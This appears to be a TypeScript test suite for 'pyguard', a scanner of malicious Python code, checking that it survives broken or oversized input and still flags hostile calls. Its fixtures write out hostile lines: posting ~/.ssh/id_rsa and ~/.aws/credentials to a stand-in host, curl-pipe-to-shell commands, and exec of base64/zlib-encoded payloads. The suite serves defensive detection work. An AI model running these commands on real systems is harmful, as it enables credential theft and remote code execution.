// Broken and hostile Python source through the whole CLI: odd encodings, NUL bytes, a 10 MB single line and
// 100k nested parentheses are analysed (or listed as partial) without a crash; exit codes follow --fail-on.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { deflateSync } from 'node:zlib';
import type { AuditResult, FileReport } from '../../src/model/result.ts';
import { runCli, scanJson } from './run-cli.ts';

const FIXTURES = fileURLToPath(new URL('../../fixtures/rules/', import.meta.url));
const CALL = 'requests.post("https://hostile.example/in", data=b"x")';
let dir: string;

function write(name: string, content: string | Uint8Array): string {
  writeFileSync(join(dir, name), content);
  return name;
}

async function onlyFile(name: string): Promise<FileReport> {
  const { code, result } = await scanJson(name, dir);
  assert.ok(code === 0 || code === 1, `exit ${code}`);
  assert.equal(result.summary.errors, 0);
  return result.targets[0].files[0];
}

function networkCall(file: FileReport) {
  return file.findings.find((f) => f.rule === 'egress-network-call');
}

describe('hostile and broken source', () => {
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pyguard-hostile-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('invalid UTF-8 bytes are replaced, noted as partial, and the code around them is analysed', async () => {
    const bytes = Buffer.concat([
      Buffer.from('import requests\nNAME = "'),
      Buffer.from([0xff, 0xfe, 0xc3]),
      Buffer.from(`"\n${CALL}\n`),
    ]);
    const file = await onlyFile(write('bad_utf8.py', bytes));
    assert.ok(file.partial);
    assert.ok(file.partialReasons?.some((reason) => /UTF-8/.test(reason)));
    assert.equal(networkCall(file)?.line, 3);
    assert.equal(networkCall(file)?.destination?.host, 'hostile.example');
  });

  test('a UTF-8 BOM is skipped and lines keep their numbers', async () => {
    const file = await onlyFile(
      write('bom.py', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`import requests\n\n${CALL}\n`)])),
    );
    assert.equal(file.partial, false);
    assert.equal(networkCall(file)?.line, 3);
    assert.equal(networkCall(file)?.code, CALL);
  });

  test('CRLF line endings give the same lines and code as LF', async () => {
    const file = await onlyFile(write('crlf.py', `import requests\r\n\r\n\r\n${CALL}\r\n`));
    assert.equal(file.partial, false);
    assert.equal(networkCall(file)?.line, 4);
    assert.equal(networkCall(file)?.code, CALL);
  });

  test('NUL bytes are noted as partial and do not hide the call after them', async () => {
    const file = await onlyFile(write('nul.py', `import requests\nx = 1\u0000\u0000\n${CALL}\n`));
    assert.ok(file.partial);
    assert.ok(file.partialReasons?.some((reason) => /NUL/.test(reason)));
    assert.ok(file.egress);
  });

  test('a latin-1 coding cookie decodes the file as latin-1', async () => {
    const bytes = Buffer.concat([
      Buffer.from('# -*- coding: latin-1 -*-\nimport requests\nGREETING = "caf'),
      Buffer.from([0xe9]),
      Buffer.from(`"\n${CALL}\n`),
    ]);
    const file = await onlyFile(write('latin1.py', bytes));
    assert.equal(file.partial, false, JSON.stringify(file.partialReasons));
    assert.equal(networkCall(file)?.line, 4);
  });

  test('a 10 MB single-line file (an embedded blob) is analysed to the end', async () => {
    const blob = 'QUJD'.repeat((10 * 1024 * 1024) / 4);
    const file = await onlyFile(write('huge_blob.py', `import requests; BLOB = "${blob}"; ${CALL}\n`));
    assert.ok(file.size >= 10 * 1024 * 1024);
    assert.equal(networkCall(file)?.line, 1);
    assert.equal(networkCall(file)?.destination?.host, 'hostile.example');
  });

  test('a 1 MB single line of 150 000 statements is analysed to the end', async () => {
    const filler = 'x = 1; '.repeat(150_000);
    const file = await onlyFile(write('long_line.py', `import requests; ${filler}${CALL}\n`));
    assert.equal(networkCall(file)?.line, 1);
  });

  test('100 000 nested parentheses do not crash the analysis', async () => {
    const depth = 100_000;
    const file = await onlyFile(
      write('deep.py', `import requests\nvalue = ${'('.repeat(depth)}1${')'.repeat(depth)}\n${CALL}\n`),
    );
    assert.equal(file.kind, 'python');
    assert.ok(file.verdict);
  });

  test('100 000 unclosed parentheses are a partial file, not a crash', async () => {
    const file = await onlyFile(write('unclosed.py', `value = ${'('.repeat(100_000)}\n`));
    assert.ok(file.partial);
  });
});

/** A folder with the hostile file next to an ordinary file that sends data out: that payload must still be found. */
async function scanBesidePayload(
  name: string,
  hostile: string,
  hostileName = 'hostile.py',
): Promise<{ result: AuditResult; hostile: FileReport }> {
  const folder = join(dir, name);
  mkdirSync(folder);
  writeFileSync(join(folder, hostileName), hostile);
  writeFileSync(join(folder, 'payload.py'), `import requests\n${CALL}\n`);
  const { code, result } = await scanJson(name, dir);
  assert.ok(code === 0 || code === 1, `exit ${code}`);
  assert.equal(result.summary.errors, 0);
  const payload = result.targets[0].files.find((file) => file.path === 'payload.py')!;
  assert.equal(
    networkCall(payload)?.destination?.host,
    'hostile.example',
    'the payload of the other file is still found',
  );
  return { result, hostile: result.targets[0].files.find((file) => file.path === hostileName)! };
}

const rules = (file: FileReport) => file.findings.map((finding) => finding.rule);
const zlibExec = (code: string) =>
  `exec(zlib.decompress(base64.b64decode("${deflateSync(Buffer.from(code)).toString('base64')}")))`;

describe('budgets, not crashes: one hostile file never aborts the scan of the others', () => {
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pyguard-budget-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('"".join of 600 copies of a 1 MB constant is folded within its bound, not built', async () => {
    const source = `import requests\nA = "${'A'.repeat(1 << 20)}"\nB = "".join([${Array(600).fill('A').join(', ')}])\nC = f"${'{A}'.repeat(600)}"\nrequests.get(B)\nrequests.get(C)\n`;
    const { result, hostile } = await scanBesidePayload('join', source);
    assert.deepEqual(rules(hostile), ['egress-network-call', 'egress-network-call']);
    assert.equal(result.targets[0].unaudited, undefined);
  });

  test('comprehensions nested through five functions are read item by item within the bound on followed calls', async () => {
    const items = Array.from({ length: 32 }, (_, index) => `"${String.fromCharCode(97 + (index % 26))}${index}"`);
    const levels = [1, 2, 3, 4, 5].map(
      (level) => `def f${level}(x): return "".join(${level === 1 ? 'x + y' : `f${level - 1}(x + y)`} for y in L)`,
    );
    const { result, hostile } = await scanBesidePayload(
      'nested_loops',
      `import requests
L = [${items.join(', ')}]
${levels.join('\n')}
R = "".join(f5(y) for y in L)
requests.get("https://nested.example/" + R)
`,
    );
    assert.equal(networkCall(hostile)?.destination?.host, 'nested.example');
    assert.equal(result.targets[0].unaudited, undefined);
  });

  test('a 50 000-deep assignment target is walked without overflowing the stack', async () => {
    const depth = 50_000;
    const { result, hostile } = await scanBesidePayload(
      'deep_target',
      `${'('.repeat(depth)}x${',)'.repeat(depth)} = y\nimport requests\nrequests.get("https://deep.example/")\n`,
    );
    assert.equal(networkCall(hostile)?.destination?.host, 'deep.example');
    assert.equal(result.targets[0].unaudited, undefined);
  });

  test('a path name reassigned from itself 40 times, 16 uses each, is followed once per assignment (not 640^3 ways)', async () => {
    const reassigned = Array.from({ length: 40 }, () => `    p = os.path.join(${Array(16).fill('p').join(', ')})`);
    const source = [
      'import os, requests',
      'for t in ["~/.ssh/id_rsa", "~/.aws/credentials"]:',
      '    p = os.path.expanduser(t)',
      ...reassigned,
      '    requests.post("https://loop.example/", data=open(p).read())',
      '',
    ].join('\n');
    const { result, hostile } = await scanBesidePayload('reassigned', source);
    assert.equal(networkCall(hostile)?.destination?.host, 'loop.example');
    assert.equal(result.targets[0].unaudited, undefined);
  });

  test('a name assigned 30 000 times and read after each is gathered once, and each read sees its own assignment', async () => {
    const lines = ['import requests'];
    for (let index = 0; index < 30_000; index++) lines.push(`u = "https://h${index}.example/"`, 'u.strip()');
    lines.push('requests.get(u)', '');
    const { result, hostile } = await scanBesidePayload('many_bindings', lines.join('\n'));
    assert.equal(networkCall(hostile)?.destination?.host, 'h29999.example');
    assert.equal(result.targets[0].unaudited, undefined);
  });

  test('50 small exec(zlib.decompress(b64...)) payloads: the virtual-file budget stops the rescans and the target is unaudited', async () => {
    const payloads = Array.from({ length: 50 }, (_, index) =>
      zlibExec(`N${index} = ${index}\n${'x = 1\n'.repeat(1200)}`),
    );
    const { result, hostile } = await scanBesidePayload('exec_bombs', `import zlib, base64\n${payloads.join('\n')}\n`);
    assert.equal(rules(hostile).filter((rule) => rule === 'exec-decoded-payload').length, 50);
    const skipped = result.targets[0].files.filter(
      (file) => file.path.startsWith('hostile.py#decoded-') && rules(file).includes('file-not-analysed'),
    );
    assert.ok(skipped.length > 0 && skipped.length < 50, `${skipped.length} payloads skipped`);
    assert.match(result.targets[0].unaudited?.[0].reason ?? '', /budget for decoded payloads is spent/);
  });

  test("decoding stops at the target's budget of decoded bytes, and says so", async () => {
    // 3.9 MB each, repetitive enough to stay under the decompression-ratio limit, not so much as to look like a bomb
    const block = Array.from({ length: 2048 }, (_, i) => String.fromCharCode(97 + ((i * 7919) % 26))).join('');
    const payloads = Array.from({ length: 6 }, (_, index) => zlibExec(`#${index}${block.repeat(1900)}`));
    const { result, hostile } = await scanBesidePayload(
      'decoded_bytes',
      `import zlib, base64\n${payloads.join('\n')}\n`,
    );
    assert.ok(
      hostile.findings.some(
        (finding) => finding.rule === 'file-not-analysed' && /budget for decoded bytes/.test(finding.message),
      ),
    );
    assert.ok(result.targets[0].unaudited?.some((item) => item.path === 'hostile.py'));
  });

  test('inputs that make backtracking regexes quadratic are read in linear time', async () => {
    const commas = ','.repeat(200_000);
    const source = [
      'import base64, requests',
      `requests.get("https://trail.example/${commas}x")`,
      `base64.b64decode("${'='.repeat(200_000)}A")`,
      `exec(base64.b64decode("${Buffer.from(`${'if '.repeat(20_000)}\n${'a.'.repeat(20_000)}`).toString('base64')}"))`,
      `API_TOKEN = "${'<'.repeat(100_000)}"`,
      `OPENAI_KEY = "${'sk-'.repeat(100_000)}"`,
      `import os\nos.system("${'powershell '.repeat(50_000)}")`,
      `os.system("${'curl iex '.repeat(50_000)}")`,
      `os.system("${'wget '.repeat(50_000)}| xargs echo | sh")`,
      'os.system("curl -s https://get.example/i.sh | sh")',
      '',
    ].join('\n');
    const { hostile } = await scanBesidePayload('quadratic', source);
    assert.equal(networkCall(hostile)?.destination?.host, 'trail.example');
    assert.ok(hostile.findings.some((finding) => finding.rule === 'download-execute'));
  });

  test('a setup.py of many unclosed cmdclass dicts is read in linear time, and a real override after them is found', async () => {
    const source = `from setuptools import setup\n${'cmdclass={'.repeat(50_000)}}\nsetup(cmdclass={"install": Install})\n`;
    const { hostile } = await scanBesidePayload('cmdclass', source, 'setup.py');
    assert.equal(hostile.findings.find((finding) => finding.rule === 'install-hook-cmdclass')?.line, 3);
  });
});

describe('scan exit codes', () => {
  test('0 when nothing reaches --fail-on (default high)', async () => {
    const run = await runCli(['scan', 'egress/requests_post.py', '--json'], FIXTURES);
    assert.equal(run.code, 0);
  });

  test('1 when the risk reaches --fail-on', async () => {
    assert.equal((await runCli(['scan', 'egress/requests_post.py', '--json', '--fail-on', 'low'], FIXTURES)).code, 1);
    assert.equal((await runCli(['scan', 'flow/env_to_requests.py', '--json'], FIXTURES)).code, 1);
  });

  test('2 with a one-line message for a path that does not exist', async () => {
    const run = await runCli(['scan', 'no/such/file.py'], FIXTURES);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /^pyguard: scan: no\/such\/file\.py: no such file or folder\n$/);
    assert.equal(run.stdout, '');
  });

  test('2 with a one-line message for a bad --fail-on level', async () => {
    const run = await runCli(['scan', 'egress/requests_post.py', '--fail-on', 'severe'], FIXTURES);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /^pyguard: .*--fail-on.*'severe'.*\n$/);
  });
});
